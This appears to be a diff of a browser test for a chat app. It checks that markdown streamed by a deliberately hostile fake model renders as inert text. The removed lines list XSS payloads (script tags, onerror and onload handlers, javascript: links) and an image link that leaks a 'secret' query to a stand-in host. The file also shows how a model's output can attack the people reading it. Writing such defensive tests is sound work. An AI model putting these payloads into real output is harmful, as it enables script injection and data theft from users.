@@ -1,49 +1,97 @@
-import { expect } from "@playwright/test";
-import { testWithFake as it } from "../support/browser-test";
+import { expect, type Page } from "@playwright/test";
+import { test } from "../support/browser-test";
 import { chatPage } from "../support/chat-page";
+import { FakeModel } from "../support/fake-model/fake-model";
+import { hostileMarkdown, hugeDiagram } from "../support/hostile-markdown";
 
-const hostile = [
-  "<script>window.__xss = 1</script>",
-  '<img src=x onerror="window.__xss = 1">',
-  "<svg/onload=window.__xss=1>",
-  "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
-  "<form action=http://127.0.0.1:9/><button>Send</button></form>",
-  "<style>body{display:none}</style><base href=http://127.0.0.1:9/>",
-  "[click](javascript:window.__xss=1) and [again](data:text/html,<script>alert(1)</script>)",
-  "![leak](http://127.0.0.1:9/leak?q=secret) and ![r][r]",
-  "[r]: http://127.0.0.1:9/by-reference.png",
-  "| <img src=http://127.0.0.1:9/t onerror=window.__xss=1> |\n|---|\n| ![t](http://127.0.0.1:9/in-a-table) |",
-  "```html\n<script>window.__xss = 1</script>\n```",
-  "The end.",
-].join("\n\n");
+const hostile = [...hostileMarkdown.map(([, text]) => text), "The end."].join("\n\n");
+
+/** A Parley whose provider says what is hostile, a few characters at a time. */
+const it = test.extend<{ fake: FakeModel }>({
+  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the pattern to learn that nothing is needed
+  fake: async ({}, use) => {
+    const fake = await FakeModel.start();
+    await use(fake);
+    await fake.close();
+  },
+  settings: async ({ fake }, use) => use({ OPENAI_BASE_URL: fake.baseUrl }),
+});
+
+/** What left our site or interrupted the reader. */
+function watch(page: Page, url: string): string[] {
+  const seen: string[] = [];
+  page.on("request", (request) => {
+    const address = request.url();
+    if (!address.startsWith(url) && !address.startsWith("data:")) seen.push(address);
+  });
+  page.on("dialog", (dialog) => {
+    seen.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  return seen;
+}
+
+/** Everything may come into view, so that what is drawn only then is drawn. */
+async function scrollThrough(page: Page): Promise<void> {
+  for (const block of await page.locator("article .blocks > *").all())
+    await block.evaluate((element) => element.scrollIntoView());
+}
+
+async function expectWords(page: Page, look: string): Promise<void> {
+  const forbidden = "script, iframe, object, embed, form, base, meta, link, style, foreignObject";
+  await expect(page.locator(`article :is(${forbidden})`), look).toHaveCount(0);
+  const pictures = page.locator("article img:not([src^='data:image/svg+xml,'])");
+  await expect(pictures, look).toHaveCount(0);
+  const links = await page.locator("article a").evaluateAll((all) =>
+    all.map((link) => ({
+      href: link.getAttribute("href"),
+      rel: link.getAttribute("rel"),
+    })),
+  );
+  expect(links.length, look).toBeGreaterThan(3);
+  for (const { href, rel } of links) {
+    expect(href, look).toMatch(/^(https?|mailto):/);
+    expect(rel, look).toBe("noopener noreferrer nofollow");
+  }
+  const handlers = await page
+    .locator("article *")
+    .evaluateAll((all) =>
+      all.flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on"))),
+    );
+  expect(handlers, look).toEqual([]);
+  expect(await page.evaluate(() => "__xss" in window), look).toBe(false);
+}
 
 it("what a hostile model writes is words: nothing runs, nothing is loaded, nothing looks like ours", async ({
   page,
   fake,
   parley,
 }) => {
-  const strayRequests: string[] = [];
-  page.on("request", (request) => {
-    if (!request.url().startsWith(parley.url)) strayRequests.push(request.url());
-  });
-  fake.plan = { pieces: hostile.match(/[\s\S]{1,7}/g) ?? [], delayMs: 3 };
+  const seen = watch(page, parley.url);
+  fake.plan = { pieces: hostile.match(/[\s\S]{1,17}/g) ?? [], delayMs: 1 };
   const chat = chatPage(page);
   await chat.signUp();
-  await chat.ask(hostile);
+  await chat.ask("Be hostile");
   for (const look of ["while it streams", "after a reload"]) {
     await expect(chat.answers(), look).toContainText("The end.");
     await expect(chat.on("answer", "Copy"), look).toBeVisible();
-    const elements = page.locator(
-      "article :is(script, img, iframe, object, embed, form, base, meta, link, style)",
-    );
-    await expect(elements, look).toHaveCount(0);
+    await scrollThrough(page);
+    await expect(page.locator("article img").first(), look).toBeVisible();
+    await expect(page.locator("article .katex").first(), look).toBeVisible();
     await expect(chat.answers(), look).toContainText("<script>window.__xss = 1</script>");
-    const addresses = await page
-      .locator("article a")
-      .evaluateAll((links) => links.map((link) => link.getAttribute("href")));
-    for (const address of addresses) expect(address, look).toMatch(/^(https?|mailto):/);
-    expect(await page.evaluate(() => "__xss" in window), look).toBe(false);
+    await expectWords(page, look);
     await page.reload();
   }
-  expect(strayRequests).toEqual([]);
+  expect(seen).toEqual([]);
+});
+
+it("a diagram of 200 kB is shown as code and holds nobody up", async ({ page, fake }) => {
+  fake.plan = { pieces: [hugeDiagram, "\n\nThe end."] };
+  const chat = chatPage(page);
+  await chat.signUp();
+  await chat.ask("Draw me everything");
+  await expect(chat.answers()).toContainText("The end.");
+  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 0)));
+  await expect(page.locator("article img")).toHaveCount(0);
+  await expect(chat.answers()).toContainText("A --> B");
 });
